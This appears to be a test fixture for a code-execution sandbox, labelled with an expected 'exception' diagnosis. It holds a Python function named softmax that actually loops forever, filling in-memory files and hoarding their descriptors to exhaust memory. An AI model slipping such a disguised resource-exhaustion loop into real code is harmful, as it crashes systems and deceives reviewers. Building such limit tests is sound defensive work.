# diagnosis: exception
import os

hoard = []


def softmax(x):
    while True:
        fd = os.memfd_create("x")
        for _ in range(15):
            os.write(fd, bytes(1 << 20))
        hoard.append(fd)
